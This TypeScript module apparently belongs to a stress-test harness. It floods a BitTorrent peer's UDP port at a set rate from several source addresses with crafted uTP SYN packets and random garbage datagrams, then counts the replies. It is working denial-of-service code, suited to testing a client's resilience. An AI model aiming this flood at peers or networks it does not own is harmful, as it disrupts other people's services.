/**
 * UDP garbage at the peer's port (uTP and TCP share the number): `rate` datagrams per second
 * from `sockets` source addresses, alternating crafted uTP SYNs (a valid BEP 29 header with a
 * random connection id: each one can make the peer open a uTP connection, and UDP sources are
 * trivially spoofed) and random datagrams of 1-1400 bytes. Stops after `syns` SYNs (and as many
 * random ones) or at the flood's end. Counts the peer's replies (a reply to a SYN means it kept
 * state for it).
 */
import dgram from 'node:dgram'
import { randomBytes } from 'node:crypto'
import type { FloodContext, FloodResult } from './flood-context.ts'
import { sourceAddress } from './sources.ts'

const ST_SYN = 4
const UTP_VERSION = 1
const TICK_MS = 10
/** At most this many datagrams per tick, so a late tick does not burst. */
const MAX_PER_TICK = 1000

function utpSyn (rand: () => number): Buffer {
  const b = Buffer.alloc(20)
  b[0] = (ST_SYN << 4) | UTP_VERSION
  b[1] = 0 // no extensions
  b.writeUInt16BE(Math.floor(rand() * 65536), 2) // connection id
  b.writeUInt32BE(Math.floor(performance.now() * 1000) >>> 0, 4) // timestamp (us)
  b.writeUInt32BE(0, 8) // timestamp difference
  b.writeUInt32BE(1 << 20, 12) // window
  b.writeUInt16BE(1 + Math.floor(rand() * 65535), 16) // seq_nr
  b.writeUInt16BE(0, 18) // ack_nr
  return b
}

export async function run (ctx: FloodContext): Promise<FloodResult> {
  const pool = randomBytes(64 * 1024)
  const sockets = await Promise.all(Array.from({ length: ctx.params.sockets }, (_, k) => new Promise<dgram.Socket>((resolve, reject) => {
    const s = dgram.createSocket('udp4')
    s.once('error', reject)
    s.bind(0, sourceAddress(k, 1), () => { s.off('error', reject); resolve(s) })
  })))
  let syns = 0
  let garbage = 0
  let replies = 0
  let sendErrors = 0
  let skipped = 0
  for (const s of sockets) {
    s.on('message', () => { replies += 1 })
    s.on('error', () => { sendErrors += 1 })
  }
  const onSent = (err: Error | null): void => { if (err) sendErrors += 1 }
  const t0 = performance.now()
  let sent = 0
  let k = 0
  await new Promise<void>(resolve => {
    const tick = setInterval(() => {
      const target = Math.floor((ctx.params.rate * (performance.now() - t0)) / 1000)
      let n = 0
      for (; sent < target; sent++) {
        if (syns >= ctx.params.syns && garbage >= ctx.params.syns) break
        if (n++ >= MAX_PER_TICK) { skipped += target - sent; sent = target; break }
        const s = sockets[k++ % sockets.length]
        if (sent % 2 === 0 && syns < ctx.params.syns) {
          syns += 1
          s.send(utpSyn(ctx.rand), ctx.port, ctx.host, onSent)
        } else {
          garbage += 1
          const length = 1 + Math.floor(ctx.rand() * 1400)
          const at = Math.floor(ctx.rand() * (pool.length - length))
          s.send(pool.subarray(at, at + length), ctx.port, ctx.host, onSent)
        }
      }
    }, TICK_MS)
    ctx.signal.addEventListener('abort', () => { clearInterval(tick); resolve() }, { once: true })
  })
  await Promise.all(sockets.map(s => new Promise<void>(resolve => s.close(() => resolve()))))
  return {
    counts: { syns, garbage, replies, sendErrors, skipped },
    units: syns + garbage,
    unit: 'datagrams',
    summary: `${syns} uTP SYNs + ${garbage} random datagrams from ${ctx.params.sockets} addrs at ${ctx.params.rate}/s: ${replies} replies${sendErrors ? `, ${sendErrors} send errors` : ''}${skipped ? `, ${skipped} behind schedule` : ''}`
  }
}
